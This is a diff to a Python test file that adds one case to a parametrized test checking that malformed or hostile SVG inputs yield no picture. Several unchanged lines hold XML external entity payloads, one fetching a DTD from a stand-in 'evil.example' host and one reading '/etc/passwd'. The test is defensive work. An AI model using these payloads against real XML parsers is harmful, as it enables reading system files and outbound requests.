@@ -82,6 +82,7 @@ def test_nothing_that_acts_or_fetches_is_in_the_copy(inside: str) -> None:
         f"<!DOCTYPE svg [<!ENTITY a 'aaaa'>]><svg {NAMES}>{RECT}<text>&a;</text></svg>",
         f"<!DOCTYPE svg [<!ENTITY % a SYSTEM 'https://evil.example/a.dtd'> %a;]><svg {NAMES}>{RECT}</svg>",
         f"<!DOCTYPE svg [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><svg {NAMES}>{RECT}<text>&a;</text></svg>",
+        f"<!DOCTYPE svg [<!ATTLIST rect id CDATA 'aaaa'>]><svg {NAMES}>{RECT * 9}</svg>",
         f"<svg {NAMES}>{RECT}<text>&undefined;</text></svg>",
         f"<svg {NAMES}>{RECT * 20_000}</svg>",
         f"<svg {NAMES}>{RECT}<g id='a'><use href='#b'/></g><g id='b'><use href='#a'/></g></svg>",
@@ -95,7 +96,7 @@ def test_nothing_that_acts_or_fetches_is_in_the_copy(inside: str) -> None:
         f"<svg {NAMES}>{RECT}<text>\ud800</text></svg>",
         f"<svg {NAMES}>{RECT}<text>\x00</text></svg>",
     ],
-    ids=range(23),
+    ids=range(24),
 )
 def test_what_cannot_be_read_within_bounds_is_no_picture(svg: str) -> None:
     assert picture(svg) is None
